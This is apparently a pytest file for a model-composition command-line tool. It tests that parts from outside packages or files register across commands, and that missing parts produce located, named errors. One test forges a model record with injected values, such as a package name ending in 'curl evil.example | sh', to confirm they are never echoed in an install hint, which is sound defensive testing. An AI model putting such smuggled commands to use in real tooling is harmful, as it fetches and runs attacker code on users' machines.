"""A gate and a memory of another package work in all commands. Without the package, the error names it."""

from __future__ import annotations

import io
import json
import subprocess
import sys
from collections.abc import Iterator
from contextlib import redirect_stdout
from pathlib import Path
from typing import Any

import pytest
import torch
import typer

import composer
from blocks import external_parts
from blocks.gates import GATES
from composer.benching import memory
from composer.benching.trial import Trial
from composer.cli.main import COMMANDS, load_command
from composer.errors import ComposerError, SpecError
from composer.options.classes import options_of
from composer.weights.record import read_record
from tests.composer.cli.conftest import Compose
from tests.outside import EXAMPLE, GATE, fake_distribution, restored

pytestmark = pytest.mark.long

SPEC = """\
compose: 1
name: mine
head:
  feature_map: elu
  memory:
    - {kind: window, size: 4, weight: learned}
    - {kind: own_part.strided, size: 4, every: 2}
    - {kind: state, gate: own_part.between}
"""
SLOW = "compose: 1\nname: slow\nhead: {feature_map: elu, memory: [{kind: state, gate: mine.slow}]}\n"
OWN = ("--parts", "own_part")
WITHOUT_PARTS = {"tasks"}
"""Commands that read no spec and no model."""


@pytest.fixture(autouse=True)
def registry(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.syspath_prepend(str(EXAMPLE))
    with restored():
        yield


@pytest.fixture
def mine(tmp_path: Path) -> Path:
    """A file with a gate, and a spec that uses it."""
    (tmp_path / "slow.yaml").write_text(SLOW, encoding="utf-8")
    path = tmp_path / "mine.py"
    path.write_text(GATE, encoding="utf-8")
    return path


def run(compose: Compose, *arguments: Any) -> str:
    result = compose(*arguments)
    assert result.exit_code == 0, result.output
    return result.stdout


def test_every_command_has_the_option_parts() -> None:
    lacking = {command.name for command in map(load_command, COMMANDS) if "parts" not in options_of(command.options)}
    assert lacking == WITHOUT_PARTS


@pytest.mark.usefixtures("quick_comparison")
def test_parts_of_another_package_work_in_all_commands(compose: Compose, teacher: Path, tmp_path: Path) -> None:
    """The commands are check, explain, draw, build, show, save, load, generate, inspect, export and verify."""
    (tmp_path / "mine.yaml").write_text(SPEC, encoding="utf-8")
    source = ("mine.yaml", "--from", teacher)
    assert "window → own_part_strided → state" in run(compose, "check", *source, *OWN)
    assert "own_part.between" in run(compose, "explain", *source)
    assert "own_part/strided.py:" in run(compose, "show", *source, "--code")
    assert "own_part.strided" in run(compose, "draw", *source)
    assert "slowest" in run(compose, "parts", "own_part.between")
    assert "own_part.between" in json.dumps(composer.schema())
    run(compose, "build", *source, "-o", "built")
    record = read_record(tmp_path / "built")
    assert record is not None
    assert {kind: stored.module for kind, stored in record.parts.items()} == {
        "own_part.between": "own_part.between",
        "own_part.strided": "own_part.strided",
    }
    model = composer.load("built")
    model.save_pretrained(tmp_path / "saved")
    saved = read_record(tmp_path / "saved")
    assert saved is not None
    assert saved.parts == record.parts
    ids = torch.tensor([[1, 2, 3, 4, 5, 6, 7, 8, 9, 10]])
    torch.testing.assert_close(composer.load("saved")(ids).logits, model(ids).logits)
    names = [name for name, _ in model.named_parameters() if "state_gate" in name]
    assert names[0].endswith("self_attn.composed.head.state_gate.weight")
    assert run(compose, "generate", "built", "--prompt", "once upon", "--max-new-tokens", "3")
    composer.inspect("built", text="once upon a time there was a cat and it slept", alone=True)
    run(compose, "export", "built", "-o", "exported")
    assert "matches its record" in run(compose, "verify", "exported")
    assert "matches its record" in run(compose, "verify", "built")


def test_an_unregistered_part_is_located_and_its_package_named(compose: Compose, mine: Path) -> None:
    """The message has the file, the line, the column and the likely missing package."""
    result = compose("check", "slow.yaml")
    assert result.exit_code == 2
    assert 'slow.yaml:3:55  head.memory[0].gate.kind: the part "mine.slow" is not registered. ' in result.output
    assert "Install the package that has it, probably mine, or name its module or its file with --parts" in result.output
    assert compose("check", "slow.yaml", "--parts", mine).exit_code == 0
    close = compose("check", "slow.yaml", "--set", "head.memory.0.gate=mine.slaw")
    assert 'did you mean "mine.slow"?' in close.output


def test_python_functions_have_the_parameter_parts(mine: Path, tmp_path: Path) -> None:
    with pytest.raises(SpecError, match="is not registered"):
        composer.load_spec(tmp_path / "slow.yaml")
    assert composer.load_spec(tmp_path / "slow.yaml", parts=[mine]).name == "slow"
    assert composer.check(tmp_path / "slow.yaml", parts=mine).ok
    with pytest.raises(ComposerError, match=r"parts: nothing\.py is no file"):
        composer.load_spec("lolcats", parts="nothing.py")


def test_a_fault_is_one_sentence(compose: Compose, mine: Path) -> None:
    mine.write_text("import no_such\n", encoding="utf-8")
    result = compose("check", "slow.yaml", "--parts", "mine.py")
    assert result.exit_code == 2
    assert "--parts: the parts of mine.py cannot be registered: " in result.stderr
    assert "mine.py, line 1: ModuleNotFoundError: No module named 'no_such'" in result.stderr.replace("\n", " ")


def test_files_do_not_name_code(compose: Compose, mine: Path, tmp_path: Path) -> None:
    """No key of a spec imports a file, and the parts named in a record are not imported."""
    (tmp_path / "slow.yaml").write_text(f"parts: [mine.py]\n{SLOW}", encoding="utf-8")
    result = compose("check", "slow.yaml")
    assert result.exit_code == 2
    assert 'unknown key "parts"' in result.output
    assert not GATES.outside


@pytest.fixture
def built(compose: Compose, mine: Path, teacher: Path, tmp_path: Path) -> Path:
    """A model with a gate from a file, built in a separate registry."""
    with restored():
        run(compose, "build", "slow.yaml", "--from", teacher, "-o", "built", "--parts", mine)
    return tmp_path / "built"


@pytest.mark.parametrize("command", ["verify", "show", "generate", "export", "inspect", "draw", "check"])
def test_a_folder_names_the_missing_file_of_its_part(compose: Compose, built: Path, command: str) -> None:
    more = {"generate": ("--prompt", "once"), "export": ("-o", "exported")}.get(command, ())
    result = compose(command, "built", *more)
    assert result.exit_code == 2
    text = " ".join(result.output.split())
    assert 'has heads with the part "mine.slow" of mine.py, SHA-256 ' in text
    assert "which is not registered: name that file with --parts" in text


def test_a_folder_names_the_missing_package_of_its_part(compose: Compose, built: Path) -> None:
    record = json.loads((built / "composition.json").read_text(encoding="utf-8"))
    record["parts"]["mine.slow"] = {"module": "mine", "package": "my-gates", "version": "1.2"}
    (built / "composition.json").write_text(json.dumps(record), encoding="utf-8")
    result = compose("generate", "built", "--prompt", "once")
    assert result.exit_code == 2
    expected = 'the part "mine.slow" of my-gates 1.2, which is not installed here: pip install my-gates==1.2'
    assert expected in " ".join(result.output.split())


@pytest.mark.parametrize("forged", [{"package": "numpy; curl evil.example | sh #"}, {"version": "1 --index-url evil.example"}])
def test_no_command_has_a_strangers_text(compose: Compose, built: Path, forged: dict[str, str]) -> None:
    record = json.loads((built / "composition.json").read_text(encoding="utf-8"))
    record["parts"]["mine.slow"] = {"module": "mine", "package": "my-gates", "version": "1.2", **forged}
    (built / "composition.json").write_text(json.dumps(record), encoding="utf-8")
    result = compose("generate", "built", "--prompt", "once")
    assert result.exit_code == 2
    assert "which is not registered" in " ".join(result.output.split())
    assert "pip install my" not in result.output
    assert "evil" not in result.output


def test_a_changed_file_is_noted(compose: Compose, built: Path, mine: Path) -> None:
    mine.write_text(f"{GATE}\n# another line\n", encoding="utf-8")
    result = compose("generate", "built", "--prompt", "once", "--max-new-tokens", "1", "--parts", mine)
    assert result.exit_code == 0
    assert 'the part "mine.slow" is of mine.py, SHA-256 ' in " ".join(result.output.split())


def test_another_process_sees_installed_parts(tmp_path: Path, built: Path, mine: Path) -> None:
    """``from_pretrained`` of transformers works in a new process if the part's package is installed."""
    record = tmp_path / "site"
    record.mkdir()
    fake_distribution(record, "faked-gates", "faked", GATE)
    code = (
        "import sys; sys.path.insert(0, sys.argv[2]); import composer; from transformers import AutoModelForCausalLM; "
        "model = AutoModelForCausalLM.from_pretrained(sys.argv[1]); "
        "print(type(model.config.read_spec().heads['head'].memory[0].gate).__module__)"
    )
    done = subprocess.run([sys.executable, "-c", code, built, record], capture_output=True, text=True, check=False)
    assert done.stdout.strip() == "faked", done.stderr


def test_processes_get_the_files(compose: Compose, built: Path, mine: Path) -> None:
    """The bench's child process and a pickled step register the file before they read the model."""
    with restored():
        composer.load(built, parts=mine)
        named = external_parts.list_named_parts()
    assert not GATES.outside
    trial = Trial(prefill=(4,), decode=(), batches=(1,), repeats=1, steps=1, seed=0, vocabulary=11, device="cpu")
    request = {"folder": str(built), "dtype": "float32", "backend": "auto", "threads": 1, "parts": named}
    with restored(), redirect_stdout(io.StringIO()) as output:
        memory.main({**request, "trial": trial.model_dump()})
    assert output.getvalue().startswith('["prefill", 4, 1,')


def test_the_command_of_typer_has_the_option() -> None:
    """The option exists in Typer's command and may be repeated."""
    from composer.cli.main import app

    command: Any = typer.main.get_command(app)
    (option,) = (entry for entry in command.commands["build"].params if entry.name == "parts")
    assert option.opts == ["--parts"]
    assert option.multiple
